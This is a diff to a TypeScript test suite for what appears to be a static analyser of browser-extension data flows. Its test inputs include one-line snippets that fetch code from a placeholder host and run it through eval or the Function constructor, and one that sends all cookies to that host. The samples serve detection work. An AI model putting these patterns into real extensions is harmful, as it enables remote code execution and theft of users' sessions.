@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
-import { factsOf } from './facts-of.ts';
+import { factsOf } from '../../testing/facts-of.ts';
 
 function flows(source: string): string[] {
   return factsOf(source).flows.map(
@@ -50,6 +50,15 @@ describe('flows', () => {
       "const load = () => new Promise((done) => $.get('https://a.dev', (d) => done(d))); load().then((d) => eval(d))",
       'network-response > code-execution (remote-control)',
     ],
+    ...[
+      "fetch('https://a.dev').then((r) => r.text()).then(eval)",
+      "fetch(new Request('https://a.dev')).then((r) => r.text()).then(globalThis.eval)",
+      "fetch(new URL('/a', 'https://a.dev')).then((r) => r.text()).then((t) => Reflect.apply(eval, null, [t]))",
+      "fetch('https://a.dev').then((r) => r.text()).then((t) => (() => {}).constructor(t)())",
+    ].map((source): [string, string] => [
+      source,
+      'network-response > code-execution (remote-control)',
+    ]),
     [
       "window.addEventListener('message', (e) => chrome.storage.local.set(e.data))",
       'page-message > extension-storage (exposure)',
@@ -67,6 +76,52 @@ describe('flows', () => {
     it(`finds ${expected} in ${source}`, () =>
       assert.ok(flows(source).includes(expected), flows(source).join()));
   }
+
+  const own: readonly [string, string][] = [
+    ['a relative address', "fetch('hello.wasm').then((r) => WebAssembly.instantiate(r, {}))"],
+    ['getURL', "const u = chrome.runtime.getURL('a.wasm'); WebAssembly.compileStreaming(fetch(u))"],
+    [
+      'an XMLHttpRequest',
+      "const x = new XMLHttpRequest(); x.open('GET', '/a.js'); x.onload = () => eval(x.response)",
+    ],
+    [
+      'the handler of an XMLHttpRequest',
+      "const x = new XMLHttpRequest(); x.open('GET', chrome.runtime.getURL('a.js')); x.onload = function () { eval(this.responseText) }",
+    ],
+    [
+      'an XMLHttpRequest that is kept when it is opened',
+      "let x; (x = new XMLHttpRequest()).open('GET', chrome.runtime.getURL('/a-'.concat(v, '.js'))); x.onload = () => eval(x.responseText)",
+    ],
+    ['jQuery', "$.get('/a.js', (code) => eval(code))"],
+    [
+      'the glue of wasm-bindgen',
+      "async function init(input) { if (!input) input = new URL('a.wasm', import.meta.url); if (typeof input === 'string') input = fetch(input); await WebAssembly.instantiateStreaming(await input, {}) }",
+    ],
+  ];
+  for (const [what, source] of own) {
+    it(`knows a file of the package by ${what}`, () =>
+      assert.deepEqual(flows(source), ['bundled-file > code-execution (remote-control)']));
+  }
+
+  it('takes an answer for the network’s when one of its addresses is not known', () => {
+    for (const source of [
+      "const x = new XMLHttpRequest(); x.open('GET', '/a.js'); x.open('GET', u); x.onload = () => eval(x.response)",
+      "let u = 'a.js'; u = decide(); fetch(u).then((r) => r.text()).then((t) => eval(t))",
+      "function go(u) { fetch(u).then((r) => r.text()).then((t) => eval(t)) } go('a.js'); go('https://a.dev')",
+      "fetch(new URL('a.js', base())).then((r) => r.text()).then((t) => eval(t))",
+    ])
+      assert.deepEqual(
+        flows(source),
+        ['network-response > code-execution (remote-control)'],
+        source,
+      );
+  });
+
+  it('survive a flood of other facts', () => {
+    const flood = 'chrome.tabs.query({});'.repeat(7_000);
+    const steal = "chrome.cookies.getAll({}, (c) => fetch('https://a.dev', { body: c }))";
+    assert.ok(flows(flood + steal).includes('cookies > network (theft)'));
+  });
 
   it('finds none where the data does not arrive', () => {
     for (const source of [
